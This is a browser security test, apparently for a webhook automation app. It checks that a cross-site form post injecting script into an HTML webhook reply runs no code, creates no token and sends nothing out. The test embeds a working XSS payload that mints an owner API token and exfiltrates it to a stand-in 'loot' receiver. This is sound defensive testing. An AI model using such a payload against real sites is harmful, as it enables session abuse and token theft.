/**
 * W-25 in a real Chromium: a page the signed-in owner visits auto-submits a form to a flow whose `respond` node
 * answers `text/html` with the posted name templated in. The answer must be inert: no script runs on the editor's
 * origin, so no API token is made and nothing reaches the attacker.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { activeFlow } from '../helpers/flows.js';
import { startReceiver, type Receiver } from '../helpers/http-receiver.js';
import { browserMissing, ensureWebBuilt, launchBrowser, signedInPage, type Browser } from './browser.js';

const EMAIL = 'owner@example.com';
const PASSWORD = 'correct horse battery staple';

describe.skipIf(browserMissing())('W-25: webhook answers are inert in a browser (Chromium)', { timeout: 90_000 }, () => {
  let t: TestApp;
  let browser: Browser;
  let loot: Receiver;
  let attacker: Server;
  let attackerUrl = '';

  beforeAll(async () => {
    ensureWebBuilt();
    t = await startTestApp({ HOOKFLOW_OWNER_EMAIL: EMAIL, HOOKFLOW_OWNER_PASSWORD: PASSWORD }, undefined, { passwordCost: { logN: 10, r: 8, p: 1 } });
    loot = await startReceiver((_r, res) => { res.setHeader('access-control-allow-origin', '*'); res.end('ok'); });
    browser = await launchBrowser();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await new Promise((r) => attacker?.close(r));
    await loot?.close();
    await t?.close();
  });

  it('a cross-site form post to a text/html respond runs no script and makes no token', async () => {
    const flow = await activeFlow(t, [
      { id: 'hook', type: 'webhook', params: { methods: ['POST'], response: { mode: 'sync' } } },
      { id: 'answer', type: 'respond', params: { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: '<h1>Thanks, {{ input.body.name }}</h1>' } },
    ], [{ from: 'hook', to: 'answer' }], 'html answer');
    // The script the attacker smuggles in: on the editor's origin it could mint an owner token and send it away.
    const script = `document.title='pwned';fetch('/api/tokens',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({name:'stolen'})})`
      + `.then(r=>r.json()).then(j=>fetch('${loot.url}/steal?t='+encodeURIComponent(j.token||JSON.stringify(j)),{mode:'no-cors'}))`;
    const form = `<!doctype html><form id=f method=POST action="${flow.hook}"><input name=name value="${`<script>${script}</script>`.replace(/"/g, '&quot;')}"></form>`
      + '<script>document.getElementById("f").submit()</script>';
    attacker = createServer((_req, res) => { res.setHeader('content-type', 'text/html'); res.end(form); });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
    const port = (attacker.address() as { port: number }).port;
    // "localhost" is another site than "127.0.0.1", where the editor runs: the attack is cross-site.
    attackerUrl = `http://localhost:${port}/`;

    const problems: string[] = [];
    const page = await signedInPage(browser, t.url, { email: EMAIL, password: PASSWORD }, problems);
    const tokensBefore = (await t.api('GET', '/api/tokens')).body.items.length;
    const answer = page.waitForResponse((r) => r.url() === flow.hook);
    await page.goto(attackerUrl);
    const res = await answer;
    await page.waitForLoadState('load');
    // The templated name is there as markup, but the browser ran none of it.
    expect(res.status()).toBe(200);
    await expect(page.locator('h1').textContent()).resolves.toMatch(/^Thanks, /);
    await new Promise((r) => setTimeout(r, 1_500));
    expect(await page.title()).not.toBe('pwned');
    expect(loot.requests).toEqual([]);
    expect((await t.api('GET', '/api/tokens')).body.items.length).toBe(tokensBefore);
    const headers = res.headers();
    expect(headers['content-security-policy']).toMatch(/^sandbox(;|$)/);
    expect(headers['content-security-policy']).not.toMatch(/allow-scripts|allow-same-origin/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['set-cookie']).toBeUndefined();
    // The owner's session cookie is neither read into the execution record nor visible to the flow.
    const list = await t.api('GET', `/api/executions?flowId=${flow.id}`);
    const exec = await t.api('GET', `/api/executions/${list.body.items[0].id}`);
    expect(JSON.stringify(exec.body)).not.toMatch(/hookflow_session/);
    await page.close();
  });
});
